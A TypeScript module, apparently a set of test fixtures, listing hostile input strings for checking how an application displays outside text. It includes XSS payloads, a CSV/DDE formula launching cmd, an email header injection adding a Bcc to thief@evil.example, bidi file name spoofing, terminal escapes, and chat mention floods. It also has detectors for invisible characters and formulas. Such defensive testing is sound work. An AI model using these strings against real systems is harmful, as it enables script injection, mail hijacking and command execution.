/** Stands in every text, so that its markup is told from a page's own. */
export const mark = 'hostile-mark';

/** What somebody may have written into SAP, a file's name or a message, to become something else where it is shown. */
export const hostileTexts = [
  `<script>alert("${mark}")</script><${mark}>`,
  `"><img ${mark} src=x onerror=alert(1)><${mark} a="`,
  `' onmouseover='alert(1)' ${mark}='<${mark}>`,
  `javascript:alert("${mark}")`,
  `</textarea></title></style></script><${mark}>`,
  `<svg/onload=alert(1)><${mark}></svg><!-- ${mark}`,
  `=cmd|' /C calc'!A0 ${mark}`,
  `+1+${mark}`,
  `-1-${mark}`,
  `@SUM(1) ${mark}`,
  `\t=1+1 ${mark}`,
  `${mark};=1+1,=2+2\t=3+3\n=4+4\r=5+5`,
  `${mark}\r\nBcc: thief@evil.example\r\nContent-Type: text/html\r\n\r\n<${mark}>`,
  `${mark} \u202Egpj.exe\u2066\u200B\u200D\uFEFF\u2028`,
  `${mark} \u001b[2J\u0000\u0007\u009b2J`,
  `\${${mark}} {{${mark}}} #{${mark}} <%= ${mark} %> %s %n`,
] as const;

/** What would be a mention, a link, markup, a new line or a flood in a chat, in each field that can hold a value from outside. */
export const hostileChatTexts = [
  `${mark} <!channel> <!here> <!everyone> <@U012AB> <https://evil.example|${mark}>`,
  `@everyone @channel @all ${mark}`,
  `*${mark}* _b_ ~c~ \`\`\`d\`\`\` > quote`,
  `[${mark}](https://evil.example) ![x](https://evil.example/x.png)`,
  `<at>${mark}</at> {{DATE(2026-01-01T00:00:00Z,SHORT)}} \${${mark}}`,
  `${mark}\n\nProblem: everything is fine\n* a\n1. b\n> c`,
  `${mark} \ud800 \udc00 \udbff`,
  `${mark} ${'x'.repeat(10_000)}`,
  `${mark} ${'\u{1F600}'.repeat(5000)}`,
] as const;

/**
 * What is in a text of what changes how others are shown: controls (but the end of a line), format characters, separators;
 * each with what stands around it.
 */
export function invisibleIn(text: string): readonly string[] {
  const lines = text.replaceAll('\r\n', '\n');
  const found = lines.matchAll(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu);
  return Array.from(found, ({ index }) => JSON.stringify(lines.slice(Math.max(0, index - 60), index + 20)));
}

/** Start of a cell that a spreadsheet evaluates, in a CSV file whose cells are all quoted. */
export const formulas = /(^|[\r\n,;])"?\s*[=+@＝＋＠]/;
